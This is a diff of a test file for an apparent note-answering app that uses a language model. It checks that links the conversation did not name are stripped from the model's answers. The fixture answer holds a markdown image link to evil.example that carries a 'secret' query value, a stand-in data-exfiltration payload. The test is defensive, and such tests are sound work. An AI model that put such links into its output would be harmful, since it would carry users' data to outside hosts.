@@ -68,7 +68,7 @@ describe('with a language model', () => {
     const id = await add('the tomatoes need water');
     const quoted = {
       answer: expect.stringMatching(
-        /^Quoted .* as the language model could not be reached:\n“the tomatoes need water”/,
+        /^Quoted .* as the language model gave no answer that could be used:\n“the tomatoes need water”/,
       ),
       sources: [{ id, title: expect.any(String), created_at: expect.any(String) }],
     };
@@ -106,7 +106,7 @@ describe('with a language model', () => {
   it('answers without addresses that a conversation did not name: nothing can be carried away by a link', async () => {
     await add('See https://tomatoes.example/care for tomatoes');
     const answer =
-      'Water [1]. ![x](https://evil.example/?q=secret) See https://tomatoes.example/care or http://evil.example/a [1]';
+      'Water [1]. ![x](https://evil.example/?q=secret) See https://tomatoes.example/care or http://evil.example/a or www.evil.example [1]';
     const answered = await ask('What about the tomatoes?', {}, { reply: says(answer, [1]) });
     expect(answered.answer).toContain('https://tomatoes.example/care');
     expect(answered.answer).not.toContain('evil');
